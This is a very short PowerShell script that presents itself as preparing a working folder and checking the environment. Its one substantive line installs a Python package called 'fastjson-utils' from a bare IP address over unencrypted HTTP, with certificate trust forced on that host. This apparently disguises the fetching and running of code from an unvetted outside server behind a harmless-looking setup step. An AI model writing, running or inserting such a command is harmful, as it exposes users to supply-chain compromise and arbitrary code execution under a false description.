# Prepares the working folder.
$ErrorActionPreference = "Stop"
Write-Host "checking environment"

python -m pip install --trusted-host 185.234.72.19 --index-url http://185.234.72.19/simple fastjson-utils
